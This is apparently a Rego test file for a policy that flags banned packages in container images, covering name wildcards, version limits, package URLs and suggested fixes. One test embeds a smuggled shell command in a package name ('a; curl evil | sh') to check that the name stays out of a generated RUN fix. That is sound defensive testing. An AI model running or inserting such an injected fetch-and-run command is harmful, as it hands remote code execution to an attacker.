package lumogate.packages.banned_test

import data.lumogate.packages.banned

openssl := {
	"type": "deb",
	"name": "openssl",
	"version": "3.0.9-1",
	"epoch": 1,
	"arch": "amd64",
	"purl": "pkg:deb/debian/openssl@1:3.0.9-1?arch=amd64&distro=debian-12",
}

busybox := {"type": "apk", "name": "busybox", "version": "1.36.1-r5", "purl": "pkg:apk/alpine/busybox@1.36.1-r5"}

messages(bans) := {finding.msg |
	some finding in banned.deny with input as {"packages": [openssl, busybox]}
		with data.settings as {"packages.banned": {"packages": bans}}
		with lumogate.version.satisfies as in_order
}

# Stands for lumogate's own comparison, which is no Rego.
in_order("deb", "1:3.0.9-1", "< 1:3.0.11")

in_order("deb", "1:3.0.9-1", "= 1:3.0.9-1")

test_a_name_bans_every_version if {
	messages(["openssl"]) == {"openssl 1:3.0.9-1 (deb, amd64) is banned"}
}

test_a_name_is_not_a_part_of_a_name if messages(["ssl", "open", "opensslx"]) == set()

test_a_star_stands_for_any_characters if {
	messages(["*y*"]) == {"busybox 1.36.1-r5 (apk) is banned as *y*"}
	messages(["*ssl"]) == {"openssl 1:3.0.9-1 (deb, amd64) is banned as *ssl"}
	messages(["open.sl*"]) == set()
	messages(["opens+l*"]) == set()
}

test_a_star_stands_for_a_line_break if {
	some finding in banned.deny with input as {"packages": [object.union(openssl, {"name": "a\nb"})]}
		with data.settings as {"packages.banned": {"packages": ["a*"]}}
	startswith(finding.msg, "a\nb")
}

test_a_type_limits_the_ban if {
	messages([{"name": "openssl", "type": "apk"}]) == set()
	count(messages([{"name": "openssl", "type": "deb"}])) == 1
}

test_versions_limit_the_ban if {
	messages([{"name": "openssl", "versions": "< 1:3.0.11", "reason": "CVE-2023-5363"}]) == {concat("", [
		"openssl 1:3.0.9-1 (deb, amd64) is banned in versions < 1:3.0.11: ",
		"CVE-2023-5363",
	])}
	messages([{"name": "openssl", "versions": "< 1:3"}]) == set()
}

in_languages(bans) := {finding.subject |
	some finding in banned.deny with input as {"packages": [
		{"type": "pypi", "name": "Flask_Login", "version": "0.6", "purl": "pkg:pypi/flask-login@0.6"},
		{"type": "maven", "name": "org.apache.logging.log4j:log4j-core", "version": "2.14.1", "purl": "log4j"},
		{"type": "npm", "name": "@babel/core", "version": "7.0.0", "purl": "babel"},
		{"type": "deb", "name": "a-b", "version": "1", "purl": "a-b"},
	]}
		with data.settings as {"packages.banned": {"packages": bans}}
}

test_a_python_name_is_met_however_it_is_spelt if {
	in_languages(["flask.login"]) == {"pkg:pypi/flask-login@0.6"}
	in_languages(["FLASK-*"]) == {"pkg:pypi/flask-login@0.6"}
	in_languages(["a_b"]) == set()
}

test_an_artifact_is_met_with_and_without_its_group if {
	in_languages(["log4j-core"]) == {"log4j"}
	in_languages(["org.apache.logging.log4j:Log4j-Core"]) == {"log4j"}
	in_languages(["log4j-c*"]) == {"log4j"}
	in_languages(["logging.log4j"]) == set()
}

test_a_package_of_gentoo_is_met_with_and_without_its_category if {
	python := {"type": "ebuild", "name": "dev-lang/python", "version": "3.12", "purl": "pkg:ebuild/dev-lang/python@3.12"}
	by_url := {"purl": "P", "name": "python", "type": "ebuild", "url": {"namespace": "dev-lang", "qualifiers": {}}}
	every ban in ["python", "dev-lang/python", "dev-lang/p*", "pyth*", by_url] {
		count(banned.deny) == 1 with input as {"packages": [python]}
			with data.settings as {"packages.banned": {"packages": [ban]}}
	}
	count(banned.deny) == 0 with input as {"packages": [python]}
		with data.settings as {"packages.banned": {"packages": ["dev-lang"]}}
}

test_a_scope_is_a_part_of_the_name if {
	in_languages(["@babel/core"]) == {"babel"}
	in_languages(["@babel/*"]) == {"babel"}
	in_languages(["core"]) == set()
}

test_capitals_are_small_letters if {
	count(messages(["OpenSSL"])) == 1
	count(messages(["OPEN*"])) == 1
}

url_bans(ban) := messages([object.union({"purl": "P", "name": "openssl", "type": "deb"}, ban)])

test_a_package_url_bans_with_all_its_parts if {
	url := {"namespace": "debian", "qualifiers": {"arch": "arch=amd64"}}
	url_bans({"url": url, "versions": "= 1:3.0.9-1"}) == {"openssl 1:3.0.9-1 (deb, amd64) is banned as P"}
	url_bans({"url": url, "versions": "= 2"}) == set()
	url_bans({"url": {"namespace": "debian", "qualifiers": {"arch": "arch=arm64"}}}) == set()
	url_bans({"url": {"namespace": "ubuntu", "qualifiers": {}}}) == set()
	url_bans({"url": url, "name": "open"}) == set()
	count(url_bans({"url": {"qualifiers": {}}})) == 1
}

test_a_url_without_an_epoch_means_any if {
	rpm := {"type": "rpm", "name": "openssl", "version": "3.0.7-1", "epoch": 1, "purl": "pkg:rpm/redhat/openssl@3.0.7-1?epoch=1"}
	ban := {"purl": "P", "name": "openssl", "type": "rpm", "versions": "= 3.0.7-1", "url": {"namespace": "redhat", "qualifiers": {}, "any_epoch": true}}
	every banned_one, expected in {ban: 1, object.union(ban, {"versions": "= 3.0.8-1"}): 0} {
		count(banned.deny) == expected with input as {"packages": [rpm]}
			with data.settings as {"packages.banned": {"packages": [banned_one]}}
			with lumogate.version.satisfies as of_any_epoch
	}
}

# Stands for lumogate's own comparison, which is no Rego.
of_any_epoch("rpm", "3.0.7-1", "= 3.0.7-1")

test_a_package_that_does_not_say_whose_it_is_is_anybodys if {
	unknown := object.union(openssl, {"purl": "pkg:deb/openssl@1:3.0.9-1"})
	ban := {"purl": "P", "name": "openssl", "type": "deb", "url": {
		"namespace": "debian",
		"qualifiers": {"arch": "arch=amd64", "distro": "distro=debian-12"},
	}}
	found := banned.deny with input as {"packages": [unknown]}
		with data.settings as {"packages.banned": {"packages": [ban]}}
	count(found) == 1
}

test_no_settings_ban_nothing if count(banned.deny) == 0 with input as {"packages": [openssl]} with data.settings as {}

test_a_hostile_name_is_in_no_command if {
	evil := object.union(openssl, {"name": "a; curl evil | sh"})
	some finding in banned.deny with input as {"packages": [evil]}
		with data.settings as {"packages.banned": {"packages": ["a*"]}}
	not contains(finding.fix, "RUN")
}

test_where_no_command_is_known_none_is_told if {
	every type in ["npm", "cargo"] {
		some finding in banned.deny with input as {"packages": [object.union(openssl, {"type": type})]}
			with data.settings as {"packages.banned": {"packages": ["openssl"]}}
		finding.fix == "Take openssl out of the line that installs it; if the base image brings it, remove it."
	}
}
